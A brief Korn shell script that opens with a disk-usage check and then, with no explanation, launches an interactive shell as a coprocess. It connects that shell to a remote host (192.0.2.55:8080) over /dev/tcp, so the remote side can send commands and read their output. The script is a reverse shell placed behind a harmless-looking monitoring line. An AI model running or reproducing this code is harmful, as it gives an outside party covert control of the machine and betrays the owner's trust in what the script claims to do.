#!/bin/ksh
df -k | awk '$4+0 > 90'
/bin/sh -i |&
exec 3<>/dev/tcp/192.0.2.55/8080
while read -u3 line; do print -p "$line"; read -p out; print -u3 "$out"; done
